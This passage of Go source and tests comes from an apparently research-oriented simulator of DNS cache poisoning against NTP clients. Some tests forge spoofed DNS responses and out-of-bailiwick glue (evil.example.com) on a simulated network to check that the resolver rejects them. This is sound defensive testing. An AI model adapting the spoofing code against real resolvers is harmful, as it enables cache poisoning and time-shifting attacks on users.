		t.Fatal(err)
	}
	res, err := New(resHost, cfg, []Hint{{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: DNSPort}}})
	if err != nil {
		t.Fatal(err)
	}

	stubHost, err := n.AddHost(stubIP)
	if err != nil {
		t.Fatal(err)
	}
	stub := NewStub(stubHost, res.Addr(), 0)

	return &topo{
		net: n, root: rootSrv, ntporg: ntpSrv, pool: pool,
		resolver: res, stubHost: stubHost, stub: stub,
	}
}

// lookup drives a stub lookup to completion.
func (tp *topo) lookup(t *testing.T, name string, qtype dnswire.Type) Result {
	t.Helper()
	var got *Result
	tp.stub.Lookup(name, qtype, func(res Result) { got = &res })
	tp.net.RunFor(10 * time.Second)
	if got == nil {
		t.Fatalf("lookup %s/%v never completed", name, qtype)
	}
	return *got
}

func TestIterativeResolution(t *testing.T) {
	tp := newTopo(t, Config{})
	res := tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if len(res.RRs) != 4 {
		t.Fatalf("answers = %d, want 4", len(res.RRs))
	}
	// The resolver walked root → ntp.org.
	if tp.root.Queries() != 1 || tp.ntporg.Queries() != 1 {
		t.Errorf("queries: root=%d ntporg=%d", tp.root.Queries(), tp.ntporg.Queries())
	}
	// NS + glue now cached.
	now := tp.net.Now()
	if _, ok := tp.resolver.Cache().Get(now, "ntp.org", dnswire.TypeNS); !ok {
		t.Error("NS record not cached")
	}
	if _, ok := tp.resolver.Cache().Get(now, "ns1.ntp.org", dnswire.TypeA); !ok {
		t.Error("glue not cached")
	}
}

func TestCacheHitSkipsUpstream(t *testing.T) {
	tp := newTopo(t, Config{})
	_ = tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	upstreamBefore := tp.resolver.Stats().UpstreamQueries
	res := tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if got := tp.resolver.Stats().UpstreamQueries; got != upstreamBefore {
		t.Errorf("cache hit still sent %d upstream queries", got-upstreamBefore)
	}
	if tp.resolver.Stats().CacheHits == 0 {
		t.Error("no cache hit recorded")
	}
}

func TestCacheExpiryTriggersRequery(t *testing.T) {
	tp := newTopo(t, Config{})
	_ = tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	ntpBefore := tp.ntporg.Queries()
	rootBefore := tp.root.Queries()
	// Pool TTL is 150s; NS TTL is 3600s. After 5 minutes the A record is
	// stale but the delegation is fresh: requery hits ntp.org only.
	tp.net.RunFor(5 * time.Minute)
	_ = tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	if tp.ntporg.Queries() != ntpBefore+1 {
		t.Errorf("ntporg queries = %d, want +1", tp.ntporg.Queries())
	}
	if tp.root.Queries() != rootBefore {
		t.Errorf("root queries = %d, want unchanged", tp.root.Queries())
	}
}

func TestNXDomainAndNegativeCache(t *testing.T) {
	tp := newTopo(t, Config{})
	res := tp.lookup(t, "missing.ntp.org", dnswire.TypeA)
	if !errors.Is(res.Err, ErrNXDomain) {
		t.Fatalf("err = %v, want NXDOMAIN", res.Err)
	}
	before := tp.resolver.Stats().UpstreamQueries
	res = tp.lookup(t, "missing.ntp.org", dnswire.TypeA)
	if !errors.Is(res.Err, ErrNXDomain) {
		t.Fatalf("second err = %v", res.Err)
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("negative cache did not suppress upstream query")
	}
}

func TestCoalescing(t *testing.T) {
	tp := newTopo(t, Config{})
	results := 0
	// Two lookups for the same name before any response arrives must
	// coalesce into one upstream resolution.
	tp.resolver.Lookup("pool.ntp.org", dnswire.TypeA, func(Result) { results++ })
	tp.resolver.Lookup("pool.ntp.org", dnswire.TypeA, func(Result) { results++ })
	tp.net.RunFor(5 * time.Second)
	if results != 2 {
		t.Fatalf("callbacks = %d, want 2", results)
	}
	// root + ntp.org = exactly 2 upstream queries despite 2 clients.
	if got := tp.resolver.Stats().UpstreamQueries; got != 2 {
		t.Errorf("upstream queries = %d, want 2", got)
	}
}

func TestTimeoutAndRetry(t *testing.T) {
	// A resolver pointed at a dead root: retries then fails.
	n := simnet.New(simnet.Config{Seed: 5})
	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, Config{Timeout: time.Second, Retries: 2},
		[]Hint{{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}}}) // rootIP not added to net
	if err != nil {
		t.Fatal(err)
	}
	var got *Result
	res.Lookup("pool.ntp.org", dnswire.TypeA, func(r Result) { got = &r })
	n.RunFor(time.Minute)
	if got == nil {
		t.Fatal("lookup never completed")
	}
	if !errors.Is(got.Err, ErrTimeout) {
		t.Errorf("err = %v, want timeout", got.Err)
	}
	if res.Stats().Timeouts != 3 { // initial + 2 retries
		t.Errorf("timeouts = %d, want 3", res.Stats().Timeouts)
	}
}

func TestSpoofedResponseWrongTXIDRejected(t *testing.T) {
	// An off-path attacker who does not know the TXID cannot poison the
	// resolver with a directly spoofed response.
	tp := newTopo(t, Config{})
	attacker, err := tp.net.AddHost(simnet.IPv4(66, 66, 66, 66))
	if err != nil {
		t.Fatal(err)
	}
	_ = attacker

	var got *Result
	tp.resolver.Lookup("pool.ntp.org", dnswire.TypeA, func(r Result) { got = &r })
	// Let the query leave, then blast spoofed responses with random
	// TXIDs at likely ports before the genuine answer lands.
	for txid := 0; txid < 200; txid++ {
		forged := dnswire.NewQuery(uint16(txid*321), "pool.ntp.org", dnswire.TypeA)
		forged.RecursionDesired = false
		resp := forged.Reply()
		resp.Authoritative = true
		resp.Answers = []dnswire.RR{dnswire.ARecord("pool.ntp.org", 999999, [4]byte{6, 6, 6, 6})}
		b, _ := resp.Encode()
		for _, port := range []uint16{49152, 49153} {
			datagram := simnet.EncodeUDP(
				simnet.Addr{IP: rootIP, Port: 53},
				simnet.Addr{IP: resolverIP, Port: port}, b)
			tp.net.Inject(simnet.Packet{
				Src: rootIP, Dst: resolverIP, Proto: simnet.ProtoUDP,
				ID: uint16(txid), Payload: datagram,
			}, time.Millisecond)
		}
	}
	tp.net.RunFor(10 * time.Second)
	if got == nil || got.Err != nil {
		t.Fatalf("resolution failed: %+v", got)
	}
	for _, rr := range got.RRs {
		if rr.A == [4]byte{6, 6, 6, 6} {
			t.Fatal("spoofed record accepted despite TXID mismatch")
		}
	}
}

func TestAcceptancePolicyRejectsOversizedAnswers(t *testing.T) {
	// §V mitigation: responses with more than 4 A records are dropped.
	// Build a pool zone that returns 10 records per response.
	n := simnet.New(simnet.Config{Seed: 77})
	srvHost, _ := n.AddHost(ntpOrgIP)
	srv, _ := dnsserver.New(srvHost)
	inventory := make([]simnet.IP, 100)
	for i := range inventory {
		inventory[i] = simnet.IPv4(203, 0, byte(i), 1)
	}
	pool, _ := dnsserver.NewPoolZone(dnsserver.PoolConfig{Name: "pool.ntp.org", PerResponse: 10}, n.Now(), inventory)
	_ = srv.AddZone("pool.ntp.org", pool)

	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, Config{
		Timeout: time.Second, Retries: 1,
		Accept: AcceptancePolicy{MaxAnswerRecords: 4},
	}, []Hint{{Zone: "pool.ntp.org", Addr: simnet.Addr{IP: ntpOrgIP, Port: 53}}})
	if err != nil {
		t.Fatal(err)
	}
	var got *Result
	res.Lookup("pool.ntp.org", dnswire.TypeA, func(r Result) { got = &r })
	n.RunFor(30 * time.Second)
	if got == nil {
		t.Fatal("never completed")
	}
	if got.Err == nil {
		t.Fatal("10-record response accepted despite MaxAnswerRecords=4")
	}
	if res.Stats().PolicyRejects == 0 {
		t.Error("no policy rejects recorded")
	}
}

func TestAcceptancePolicyRejectsHighTTL(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 78})
	srvHost, _ := n.AddHost(ntpOrgIP)
	srv, _ := dnsserver.New(srvHost)
	z := dnsserver.NewStaticZone("ntp.org")
	z.Add(dnswire.ARecord("x.ntp.org", 86400*7, [4]byte{1, 2, 3, 4})) // 7-day TTL
	_ = srv.AddZone("ntp.org", z)

	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, Config{
		Timeout: time.Second, Retries: 1,
		Accept: AcceptancePolicy{MaxTTL: 24 * time.Hour},
	}, []Hint{{Zone: "ntp.org", Addr: simnet.Addr{IP: ntpOrgIP, Port: 53}}})
	if err != nil {
		t.Fatal(err)
	}
	var got *Result
	res.Lookup("x.ntp.org", dnswire.TypeA, func(r Result) { got = &r })
	n.RunFor(30 * time.Second)
	if got == nil || got.Err == nil {
		t.Fatal("high-TTL response accepted despite MaxTTL")
	}
}

func TestOutOfBailiwickGlueIgnored(t *testing.T) {
	// A referral whose glue lies outside the answering zone must not be
	// cached (classic bailiwick rule).
	n := simnet.New(simnet.Config{Seed: 79})
	rootHost, _ := n.AddHost(rootIP)
	rootSrv, _ := dnsserver.New(rootHost)
	zone := dnsserver.NewDelegatingZone("org")
	zone.Delegate(dnsserver.Delegation{
		Child: "ntp.org",
		NSTTL: 3600,
		Glue: []dnsserver.NSGlue{
			// Out-of-zone glue: a .com name served by the .org zone.
			{Name: "evil.example.com", IP: simnet.IPv4(6, 6, 6, 6), TTL: 999999},
			{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600},
		},
	})
	_ = rootSrv.AddZone("org", zone)

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, _ := dnsserver.New(ntpHost)
	st := dnsserver.NewStaticZone("ntp.org")
	st.Add(dnswire.ARecord("www.ntp.org", 300, [4]byte{9, 9, 9, 9}))
	_ = ntpSrv.AddZone("ntp.org", st)

	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, Config{}, []Hint{{Zone: "org", Addr: simnet.Addr{IP: rootIP, Port: 53}}})
	if err != nil {
		t.Fatal(err)
	}
	var got *Result
	res.Lookup("www.ntp.org", dnswire.TypeA, func(r Result) { got = &r })
	n.RunFor(30 * time.Second)
	if got == nil || got.Err != nil {
		t.Fatalf("resolution failed: %+v", got)
	}
	if _, cached := res.Cache().Get(n.Now(), "evil.example.com", dnswire.TypeA); cached {
		t.Error("out-of-bailiwick glue was cached")
	}
}

func TestStubServesViaUDP(t *testing.T) {
	tp := newTopo(t, Config{})
	var ips []simnet.IP
	var lookupErr error
	tp.stub.LookupA("pool.ntp.org", func(got []simnet.IP, err error) { ips, lookupErr = got, err })
	tp.net.RunFor(10 * time.Second)
	if lookupErr != nil {
		t.Fatal(lookupErr)
	}
	if len(ips) != 4 {
		t.Errorf("ips = %d, want 4", len(ips))
	}
	if tp.resolver.Stats().ClientQueries != 1 {
		t.Errorf("client queries = %d", tp.resolver.Stats().ClientQueries)
	}
}

func TestStubTimeout(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 80})
	sh, _ := n.AddHost(stubIP)
	stub := NewStub(sh, simnet.Addr{IP: resolverIP, Port: 53}, time.Second) // resolver absent
	var got error = nil
	called := false
	stub.Lookup("pool.ntp.org", dnswire.TypeA, func(res Result) { called, got = true, res.Err })
	n.RunFor(10 * time.Second)
	if !called || !errors.Is(got, ErrStubTimeout) {
		t.Errorf("called=%v err=%v", called, got)
	}
}

func TestSharedResolverCrossClientVisibility(t *testing.T) {
	// A record cached on behalf of one client (e.g. an SMTP server) is
	// served to another (the Chronos client) — the shared-resolver model
	// that lets attackers trigger poisoning via third-party systems.
	tp := newTopo(t, Config{})
	otherHost, err := tp.net.AddHost(simnet.IPv4(10, 0, 0, 2))
	if err != nil {
		t.Fatal(err)
	}
	other := NewStub(otherHost, tp.resolver.Addr(), 0)
	var first []dnswire.RR
	other.Lookup("pool.ntp.org", dnswire.TypeA, func(r Result) { first = r.RRs })
	tp.net.RunFor(10 * time.Second)
	if len(first) == 0 {
		t.Fatal("first client got nothing")
	}
	before := tp.resolver.Stats().UpstreamQueries
	res := tp.lookup(t, "pool.ntp.org", dnswire.TypeA)
	if res.Err != nil || len(res.RRs) == 0 {
		t.Fatal("second client failed")
	}
	if tp.resolver.Stats().UpstreamQueries != before {
		t.Error("second client was not served from the shared cache")
	}
	// And both see the same addresses.
	for i := range first {
		if first[i].A != res.RRs[i].A {
			t.Error("clients saw different cached records")
		}
	}
}

func TestCacheBasics(t *testing.T) {
	c := NewCache()
	now := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	rr := dnswire.ARecord("a.example", 100, [4]byte{1, 2, 3, 4})
	c.Put(now, "a.example", dnswire.TypeA, []dnswire.RR{rr})
	if c.Len() != 1 {
		t.Error("Len != 1")
	}
	got, ok := c.Get(now.Add(40*time.Second), "a.example", dnswire.TypeA)
	if !ok || got[0].TTL != 60 {
		t.Errorf("aged TTL = %d, want 60", got[0].TTL)
	}
	if _, ok := c.Get(now.Add(101*time.Second), "a.example", dnswire.TypeA); ok {
		t.Error("expired entry served")
	}
	// Negative cache.
	c.PutNegative(now, "neg.example", dnswire.TypeA, 30*time.Second)
	if !c.GetNegative(now.Add(10*time.Second), "neg.example", dnswire.TypeA) {
		t.Error("negative entry missing")
	}
	if c.GetNegative(now.Add(31*time.Second), "neg.example", dnswire.TypeA) {
		t.Error("expired negative entry served")
	}
	// Flush & purge.
	c.Put(now, "b.example", dnswire.TypeA, []dnswire.RR{rr})
	if !c.Flush("b.example", dnswire.TypeA) {
		t.Error("flush missed")
	}
	c.Put(now, "c.example", dnswire.TypeA, []dnswire.RR{rr})
	c.Purge(now.Add(time.Hour))
	if c.Len() != 0 {
		t.Errorf("Len after purge = %d", c.Len())
	}
	// Empty put is a no-op.
	c.Put(now, "d.example", dnswire.TypeA, nil)
	if c.Len() != 0 {
		t.Error("empty put stored something")
	}
}

func TestCacheDumpDeterministic(t *testing.T) {
	c := NewCache()
	now := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	c.Put(now, "b.example", dnswire.TypeA, []dnswire.RR{dnswire.ARecord("b.example", 60, [4]byte{2, 2, 2, 2})})
	c.Put(now, "a.example", dnswire.TypeA, []dnswire.RR{dnswire.ARecord("a.example", 60, [4]byte{1, 1, 1, 1})})
	d1 := c.Dump(now)
	d2 := c.Dump(now)
	if len(d1) != 2 || len(d2) != 2 {
		t.Fatalf("dump sizes: %d, %d", len(d1), len(d2))
	}
	if d1[0].Name != "a.example" {
		t.Error("dump not sorted")
	}
}
