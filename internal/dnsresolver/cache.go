package dnsresolver

import (
	"sort"
	"time"

	"chronosntp/internal/dnswire"
)

// cacheKey identifies an RRset.
type cacheKey struct {
	name  string
	qtype dnswire.Type
}

type cacheEntry struct {
	rrs      []dnswire.RR // TTLs as received
	storedAt time.Time
	expiry   time.Time
}

// Cache is a TTL-respecting DNS cache. It is the attack target: one
// poisoned RRset with a long TTL persists across all of Chronos' hourly
// pool queries.
type Cache struct {
	entries  map[cacheKey]*cacheEntry
	negative map[cacheKey]time.Time // NXDOMAIN/NODATA until expiry
}

// NewCache returns an empty cache.
func NewCache() *Cache {
	return &Cache{
		entries:  make(map[cacheKey]*cacheEntry),
		negative: make(map[cacheKey]time.Time),
	}
}

// Put stores rrs as the RRset for (name, qtype). TTLs are taken from the
// records; the entry expires when the smallest TTL does.
func (c *Cache) Put(now time.Time, name string, qtype dnswire.Type, rrs []dnswire.RR) {
	if len(rrs) == 0 {
		return
	}
	minTTL := rrs[0].TTL
	for _, rr := range rrs[1:] {
		if rr.TTL < minTTL {
			minTTL = rr.TTL
		}
	}
	cp := make([]dnswire.RR, len(rrs))
	copy(cp, rrs)
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	c.entries[k] = &cacheEntry{
		rrs:      cp,
		storedAt: now,
		expiry:   now.Add(time.Duration(minTTL) * time.Second),
	}
	delete(c.negative, k)
}

// PutNegative records that (name, qtype) does not exist, for ttl.
func (c *Cache) PutNegative(now time.Time, name string, qtype dnswire.Type, ttl time.Duration) {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	c.negative[k] = now.Add(ttl)
}

// Get returns the unexpired RRset for (name, qtype) with TTLs decremented
// by the time spent in cache.
func (c *Cache) Get(now time.Time, name string, qtype dnswire.Type) ([]dnswire.RR, bool) {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	e, ok := c.entries[k]
	if !ok {
		return nil, false
	}
	if !now.Before(e.expiry) {
		delete(c.entries, k)
		return nil, false
	}
	aged := uint32(now.Sub(e.storedAt) / time.Second)
	out := make([]dnswire.RR, len(e.rrs))
	for i, rr := range e.rrs {
		if rr.TTL > aged {
			rr.TTL -= aged
		} else {
			rr.TTL = 0
		}
		out[i] = rr
	}
	return out, true
}

// GetNegative reports whether (name, qtype) is negatively cached.
func (c *Cache) GetNegative(now time.Time, name string, qtype dnswire.Type) bool {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	exp, ok := c.negative[k]
	if !ok {
		return false
	}
	if !now.Before(exp) {
		delete(c.negative, k)
		return false
	}
	return true
}

// Flush removes the entry for (name, qtype), reporting whether it existed.
func (c *Cache) Flush(name string, qtype dnswire.Type) bool {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	_, ok := c.entries[k]
	delete(c.entries, k)
	delete(c.negative, k)
	return ok
}

// Len returns the number of positive entries (expired ones included until
// touched or purged).
func (c *Cache) Len() int { return len(c.entries) }

// Purge drops all expired entries.
func (c *Cache) Purge(now time.Time) {
	for k, e := range c.entries {
		if !now.Before(e.expiry) {
			delete(c.entries, k)
		}
	}
	for k, exp := range c.negative {
		if !now.Before(exp) {
			delete(c.negative, k)
		}
	}
}

// Dump returns a deterministic snapshot of all unexpired entries, for
// experiment reporting.
func (c *Cache) Dump(now time.Time) []dnswire.RR {
	keys := make([]cacheKey, 0, len(c.entries))
	for k, e := range c.entries {
		if now.Before(e.expiry) {
			keys = append(keys, k)
		}
	}
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].name != keys[j].name {
			return keys[i].name < keys[j].name
		}
		return keys[i].qtype < keys[j].qtype
	})
	var out []dnswire.RR
	for _, k := range keys {
		if rrs, ok := c.Get(now, k.name, k.qtype); ok {
			out = append(out, rrs...)
		}
	}
	return out
}
