package dnsresolver

import (
	"sort"
	"time"

	"chronosntp/internal/dnswire"
)

// cacheKey identifies an RRset.
type cacheKey struct {
	name  string
	qtype dnswire.Type
}

type cacheEntry struct {
	rrs      []dnswire.RR // TTLs as received
	aged     []dnswire.RR // per-entry scratch for the TTL-decremented view
	agedBy   uint32       // seconds the scratch view was aged by; 0 = stale
	storedAt time.Time
	expiry   time.Time
}

// Cache is a TTL-respecting DNS cache. It is the attack target: one
// poisoned RRset with a long TTL persists across all of Chronos' hourly
// pool queries.
type Cache struct {
	entries  map[cacheKey]*cacheEntry
	negative map[cacheKey]time.Time // NXDOMAIN/NODATA until expiry
}

// NewCache returns an empty cache.
func NewCache() *Cache {
	return &Cache{
		entries:  make(map[cacheKey]*cacheEntry),
		negative: make(map[cacheKey]time.Time),
	}
}

// Put stores rrs as the RRset for (name, qtype). TTLs are taken from the
// records; the entry expires when the smallest TTL does.
func (c *Cache) Put(now time.Time, name string, qtype dnswire.Type, rrs []dnswire.RR) {
	if len(rrs) == 0 {
		return
	}
	minTTL := rrs[0].TTL
	for _, rr := range rrs[1:] {
		if rr.TTL < minTTL {
			minTTL = rr.TTL
		}
	}
	cp := make([]dnswire.RR, len(rrs))
	copy(cp, rrs)
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	c.entries[k] = &cacheEntry{
		rrs:      cp,
		storedAt: now,
		expiry:   now.Add(time.Duration(minTTL) * time.Second),
	}
	delete(c.negative, k)
}

// PutNegative records that (name, qtype) does not exist, for ttl.
func (c *Cache) PutNegative(now time.Time, name string, qtype dnswire.Type, ttl time.Duration) {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	c.negative[k] = now.Add(ttl)
}

// Get returns the unexpired RRset for (name, qtype) with TTLs decremented
// by the time spent in cache.
//
// The returned slice is borrowed from the entry: callers must consume it
// (or copy records out) before the entry is next written or aged again,
// i.e. within the same simulation event. When no whole second has elapsed
// since storage the stored records are returned directly; otherwise the
// TTL-decremented view is built in a per-entry scratch slice, so two
// simultaneously live Gets of *different* entries (the referral walk holds
// an NS set while fetching glue A sets) never clobber each other.
func (c *Cache) Get(now time.Time, name string, qtype dnswire.Type) ([]dnswire.RR, bool) {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	e, ok := c.entries[k]
	if !ok {
		return nil, false
	}
	if !now.Before(e.expiry) {
		delete(c.entries, k)
		return nil, false
	}
	aged := uint32(now.Sub(e.storedAt) / time.Second)
	if aged == 0 {
		return e.rrs, true
	}
	if e.agedBy == aged {
		// The scratch view is already decremented by this many seconds —
		// the common case at fleet scale, where bursts of clients hit the
		// same entry within one virtual second. Skip the copy.
		return e.aged, true
	}
	if cap(e.aged) < len(e.rrs) {
		e.aged = make([]dnswire.RR, len(e.rrs))
	}
	e.aged = e.aged[:len(e.rrs)]
	// Bulk-copy the records, then patch TTLs in place: one memmove beats
	// a per-record struct copy for the wide RR type.
	copy(e.aged, e.rrs)
	for i := range e.aged {
		if e.aged[i].TTL > aged {
			e.aged[i].TTL -= aged
		} else {
			e.aged[i].TTL = 0
		}
	}
	e.agedBy = aged
	return e.aged, true
}

// GetNegative reports whether (name, qtype) is negatively cached.
func (c *Cache) GetNegative(now time.Time, name string, qtype dnswire.Type) bool {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	exp, ok := c.negative[k]
	if !ok {
		return false
	}
	if !now.Before(exp) {
		delete(c.negative, k)
		return false
	}
	return true
}

// Flush removes the entry for (name, qtype), reporting whether it existed.
func (c *Cache) Flush(name string, qtype dnswire.Type) bool {
	k := cacheKey{name: dnswire.NormalizeName(name), qtype: qtype}
	_, ok := c.entries[k]
	delete(c.entries, k)
	delete(c.negative, k)
	return ok
}

// Len returns the number of positive entries (expired ones included until
// touched or purged).
func (c *Cache) Len() int { return len(c.entries) }

// Purge drops all expired entries.
func (c *Cache) Purge(now time.Time) {
	for k, e := range c.entries {
		if !now.Before(e.expiry) {
			delete(c.entries, k)
		}
	}
	for k, exp := range c.negative {
		if !now.Before(exp) {
			delete(c.negative, k)
		}
	}
}

// Dump returns a deterministic snapshot of all unexpired entries, for
// experiment reporting.
func (c *Cache) Dump(now time.Time) []dnswire.RR {
	keys := make([]cacheKey, 0, len(c.entries))
	for k, e := range c.entries {
		if now.Before(e.expiry) {
			keys = append(keys, k)
		}
	}
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].name != keys[j].name {
			return keys[i].name < keys[j].name
		}
		return keys[i].qtype < keys[j].qtype
	})
	var out []dnswire.RR
	for _, k := range keys {
		if rrs, ok := c.Get(now, k.name, k.qtype); ok {
			out = append(out, rrs...)
		}
	}
	return out
}
