package dnsresolver

import (
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// Lookuper is the DNS dependency of the simulated clients. Two
// implementations matter:
//
//   - *Stub: the wire path — one UDP query/response exchange with the
//     resolver per lookup, exactly what a real stub resolver does;
//   - *Resolver: the direct in-process handle — the lookup enters the
//     resolver's cache/iteration machinery without the client↔resolver
//     UDP round trip. Fleet-scale experiments use it so thousands of
//     clients can share one resolver cache at O(1) cost per cached
//     lookup while the resolver's *upstream* traffic (the attack
//     surface) stays on the simulated wire.
type Lookuper interface {
	Lookup(name string, qtype dnswire.Type, cb Callback)
}

var (
	_ Lookuper = (*Stub)(nil)
	_ Lookuper = (*Resolver)(nil)
)

// LookupA resolves name to IPv4 addresses through any Lookuper — the
// convenience NTP clients use for bootstrap.
func LookupA(l Lookuper, name string, cb func(ips []simnet.IP, err error)) {
	l.Lookup(name, dnswire.TypeA, func(res Result) {
		if res.Err != nil {
			cb(nil, res.Err)
			return
		}
		var ips []simnet.IP
		for _, rr := range res.RRs {
			if rr.Type == dnswire.TypeA {
				ips = append(ips, simnet.IP(rr.A))
			}
		}
		cb(ips, nil)
	})
}
