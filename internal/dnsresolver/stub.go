package dnsresolver

import (
	"errors"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// ErrStubTimeout is delivered when the resolver does not answer a stub in
// time.
var ErrStubTimeout = errors.New("dnsresolver: stub query timeout")

// Stub is a minimal DNS client used by the simulated systems (the Chronos
// client, the classic NTP client, the SMTP trigger, web clients) to talk
// to a shared resolver over UDP.
type Stub struct {
	host     *simnet.Host
	resolver simnet.Addr
	timeout  time.Duration
}

// NewStub builds a stub on host pointing at resolver. A zero timeout
// defaults to 5 s.
func NewStub(host *simnet.Host, resolver simnet.Addr, timeout time.Duration) *Stub {
	if timeout == 0 {
		timeout = 5 * time.Second
	}
	return &Stub{host: host, resolver: resolver, timeout: timeout}
}

// Resolver returns the upstream resolver address.
func (s *Stub) Resolver() simnet.Addr { return s.resolver }

// Lookup sends one query and invokes cb exactly once with the matching
// response or an error after the timeout. The callback receives the raw
// answer records.
func (s *Stub) Lookup(name string, qtype dnswire.Type, cb Callback) {
	net := s.host.Net()
	txid := uint16(net.Rand().Intn(1 << 16))
	port := s.host.EphemeralPort()
	done := false
	var timer simnet.Timer

	finish := func(res Result) {
		if done {
			return
		}
		done = true
		timer.Cancel()
		s.host.Close(port)
		cb(res)
	}

	err := s.host.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if meta.From != s.resolver {
			return
		}
		msg, err := dnswire.Decode(payload)
		if err != nil || !msg.Response || msg.ID != txid {
			return
		}
		switch msg.RCode {
		case dnswire.RCodeNoError:
			finish(Result{RRs: msg.Answers, From: "resolver"})
		case dnswire.RCodeNXDomain:
			finish(Result{Err: ErrNXDomain, From: "resolver"})
		default:
			finish(Result{Err: ErrServFail, From: "resolver"})
		}
	})
	if err != nil {
		cb(Result{Err: err})
		return
	}
	msg := dnswire.NewQuery(txid, name, qtype)
	b, err := msg.Encode()
	if err != nil {
		finish(Result{Err: err})
		return
	}
	if err := s.host.SendUDP(port, s.resolver, b); err != nil {
		finish(Result{Err: err})
		return
	}
	timer = net.After(s.timeout, func() { finish(Result{Err: ErrStubTimeout}) })
}

// LookupA resolves name to IPv4 addresses, a convenience for NTP clients.
func (s *Stub) LookupA(name string, cb func(ips []simnet.IP, err error)) {
	LookupA(s, name, cb)
}
