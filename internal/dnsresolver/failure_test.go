package dnsresolver

import (
	"math/rand"
	"testing"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// lossyTopo wires the standard hierarchy over a lossy network.
func lossyTopo(t *testing.T, seed int64, dropRate float64, cfg Config) (*simnet.Network, *Resolver, *Stub) {
	t.Helper()
	n := simnet.New(simnet.Config{
		Seed: seed,
		Loss: func(src, dst simnet.IP, rng *rand.Rand) bool {
			// Loss only on the resolver↔authoritative legs so the stub
			// client itself is not flaky.
			if src == stubIP || dst == stubIP {
				return false
			}
			return rng.Float64() < dropRate
		},
	})
	rootHost, _ := n.AddHost(rootIP)
	rootSrv, _ := dnsserver.New(rootHost)
	rootZone := dnsserver.NewDelegatingZone("")
	rootZone.Delegate(dnsserver.Delegation{
		Child: "ntp.org", NSTTL: 3600,
		Glue: []dnsserver.NSGlue{{Name: "ns1.ntp.org", IP: ntpOrgIP, TTL: 3600}},
	})
	_ = rootSrv.AddZone("", rootZone)

	ntpHost, _ := n.AddHost(ntpOrgIP)
	ntpSrv, _ := dnsserver.New(ntpHost)
	z := dnsserver.NewStaticZone("ntp.org")
	z.Add(dnswire.ARecord("www.ntp.org", 300, [4]byte{9, 9, 9, 9}))
	_ = ntpSrv.AddZone("ntp.org", z)

	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, cfg, []Hint{{Zone: "", Addr: simnet.Addr{IP: rootIP, Port: 53}}})
	if err != nil {
		t.Fatal(err)
	}
	sh, _ := n.AddHost(stubIP)
	return n, res, NewStub(sh, res.Addr(), 30*time.Second)
}

// TestRetriesRecoverFromLoss: with 30% loss and generous retries the
// resolver still answers; timeouts are recorded.
func TestRetriesRecoverFromLoss(t *testing.T) {
	n, _, stub := lossyTopo(t, 401, 0.3, Config{Timeout: time.Second, Retries: 8})
	var got Result
	gotSet := false
	stub.Lookup("www.ntp.org", dnswire.TypeA, func(r Result) { got, gotSet = r, true })
	n.RunFor(time.Minute)
	if !gotSet {
		t.Fatal("lookup never completed")
	}
	if got.Err != nil {
		t.Fatalf("lookup failed under 30%% loss with retries: %v", got.Err)
	}
	if len(got.RRs) != 1 || got.RRs[0].A != [4]byte{9, 9, 9, 9} {
		t.Errorf("answers: %+v", got.RRs)
	}
}

// TestHeavyLossEventuallyFails: at near-total loss the resolver reports
// failure instead of hanging.
func TestHeavyLossEventuallyFails(t *testing.T) {
	n, res, stub := lossyTopo(t, 402, 0.995, Config{Timeout: 500 * time.Millisecond, Retries: 2})
	var got Result
	gotSet := false
	stub.Lookup("www.ntp.org", dnswire.TypeA, func(r Result) { got, gotSet = r, true })
	n.RunFor(2 * time.Minute)
	if !gotSet {
		t.Fatal("lookup never completed")
	}
	if got.Err == nil {
		t.Error("lookup should fail at 99.5% loss")
	}
	if res.Stats().Timeouts == 0 {
		t.Error("no timeouts recorded")
	}
}

// TestDuplicateResponsesHarmless: a duplicated (replayed) upstream
// response must not corrupt resolver state or answer twice.
func TestDuplicateResponsesHarmless(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 403})
	// Duplicate every root→resolver packet via a tap.
	srvHost, _ := n.AddHost(ntpOrgIP)
	srv, _ := dnsserver.New(srvHost)
	z := dnsserver.NewStaticZone("ntp.org")
	z.Add(dnswire.ARecord("www.ntp.org", 300, [4]byte{9, 9, 9, 9}))
	_ = srv.AddZone("ntp.org", z)
	n.AddTap(simnet.TapFunc(func(pkt simnet.Packet) (simnet.Verdict, []simnet.Packet) {
		if pkt.Src == ntpOrgIP {
